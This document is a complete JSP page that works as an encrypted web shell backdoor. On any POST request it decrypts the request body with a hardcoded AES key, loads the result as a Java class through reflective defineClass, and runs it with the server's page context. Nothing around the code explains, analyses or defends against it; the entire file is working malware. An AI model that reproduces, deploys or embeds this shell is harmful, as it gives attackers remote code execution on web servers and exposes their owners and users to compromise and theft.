<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*,java.lang.reflect.*" %>
<%!
    private byte[] dec(byte[] data, String key) throws Exception {
        Cipher c = Cipher.getInstance("AES/ECB/PKCS5Padding");
        c.init(Cipher.DECRYPT_MODE, new SecretKeySpec(key.getBytes(), "AES"));
        return c.doFinal(data);
    }
%>
<%
    if ("POST".equalsIgnoreCase(request.getMethod())) {
        String k = "5d41402abc4b2a76";
        session.setAttribute("u", k);
        StringBuilder body = new StringBuilder();
        java.io.BufferedReader rd = request.getReader();
        String ln;
        while ((ln = rd.readLine()) != null) body.append(ln);
        byte[] cls = dec(Base64.getDecoder().decode(body.toString()), k);
        Method dm = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
        dm.setAccessible(true);
        Class<?> payload = (Class<?>) dm.invoke(Thread.currentThread().getContextClassLoader(), cls, 0, cls.length);
        Object o = payload.newInstance();
        o.equals(pageContext);
    }
%>
